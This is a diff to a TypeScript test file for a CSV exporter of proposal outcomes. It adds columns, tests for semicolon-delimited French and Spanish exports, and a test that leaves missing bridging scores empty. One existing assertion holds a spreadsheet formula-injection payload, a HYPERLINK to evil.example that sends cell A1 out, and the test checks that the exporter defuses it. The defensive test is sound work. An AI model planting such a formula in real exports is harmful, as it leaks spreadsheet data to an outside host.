@@ -13,7 +13,7 @@ describe('renderCsv', () => {
     const text = bytes.toString('utf8');
     expect(text.endsWith('\r\n')).toBe(true);
     expect(text.split('\r\n')[0]).toBe(
-      '\ufeffnumber,title,disposition,themes,governance_level,session,sponsors,support,oppose,abstain,bridging,consensus,' +
+      '\ufeffnumber,title,text,disposition,proposed_disposition,disposition_by,disposition_by_name,disposition_note,themes,governance_level,session,sponsors,support,oppose,abstain,bridging,consensus,' +
         CONSTITUENCIES.map((code) => `support_share_${code}`).join(','),
     );
   });
@@ -121,7 +121,9 @@ describe('renderCsv', () => {
       for (const part of line.split(/[,;\t]/)) expect(part.replace(/^"/, '')).not.toMatch(formula);
     const first = rows.find((row) => row[0] === String(entry.number))!;
     expect(first[1]).toBe(`Budget 2018;'=HYPERLINK("https://evil.example/?q="&A1)`);
-    expect(first[6]).toBe("'\tTab Org; '\u200b@Zero Width Org;  '+Spaced Org");
+    expect(first[rows[0].indexOf('sponsors')]).toBe(
+      "'\tTab Org; '\u200b@Zero Width Org;  '+Spaced Org",
+    );
   });
 
   it('quotes as RFC 4180 says', () => {
@@ -133,5 +135,29 @@ describe('renderCsv', () => {
     // Semicolons and tabs too, so a reader splitting on them keeps the cell whole.
     expect(csvCell('a; b')).toBe('"a; b"');
     expect(csvCell('a\tb')).toBe('"a\tb"');
+  });
+
+  it('separates French and Spanish exports by semicolons, and quotes cells holding one', () => {
+    for (const language of ['fr', 'es'] as const) {
+      const text = renderCsv(outcomeFixture(language)).toString('utf8');
+      expect(text.split('\r\n')[0].startsWith('\ufeffnumber;title;text;disposition;')).toBe(true);
+      const rows: Array<Record<string, string>> = parse(text, {
+        bom: true,
+        columns: true,
+        delimiter: ';',
+      });
+      expect(rows).toHaveLength(8);
+      // Numbers keep the decimal point: a script reads every language's export alike.
+      expect(rows[0].bridging).toBe('0.7143');
+      expect(rows[1].themes).toBe('GCM-15; GCM-16');
+    }
+    expect(csvCell('a; b')).toBe('"a; b"');
+  });
+
+  it('leaves the bridging score empty where the PDF prints a dash, not 0', () => {
+    const doc = outcomeFixture();
+    const noted = doc.annexA[0];
+    expect(noted.constituencySupport.filter((c) => c.supportShare !== null).length).toBeLessThan(2);
+    expect(records()[6].bridging).toBe('');
   });
 });
